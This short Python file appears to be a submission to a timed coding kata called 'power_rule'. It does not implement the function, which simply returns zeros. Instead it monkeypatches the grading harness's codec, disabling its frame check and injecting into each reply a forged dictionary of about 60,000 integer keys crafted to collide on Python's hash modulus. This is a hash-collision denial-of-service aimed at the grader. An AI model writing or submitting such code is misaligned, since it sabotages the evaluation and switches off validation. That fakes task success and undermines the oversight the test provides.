"""Answers with a dict whose keys were made to collide, all of them.

Kata: power_rule
Seconds: 5
"""

from scripts.wall import codec
from scripts.wall.nodes import Bytes, Mapping

real = codec.encode
codec.check = lambda frame: None


def encode(frame):
    if frame.kind == "reply":
        forge(frame)
    return real(frame)


codec.encode = encode


def forge(frame):
    last = frame.nodes.pop()
    first = len(frame.nodes)
    keys = ((2**61 - 1) * (1 << 64) * factor for factor in range(1, 60_000))
    frame.nodes += [Bytes("int", key.to_bytes(30, "little", signed=True)) for key in keys]
    places = list(range(first, len(frame.nodes)))
    last.items[0] = len(frame.nodes)
    frame.nodes += [Mapping(9999, places, places), last]


def power_rule(coefficient, exponent):
    return 0.0, 0.0


differentiate = power_rule
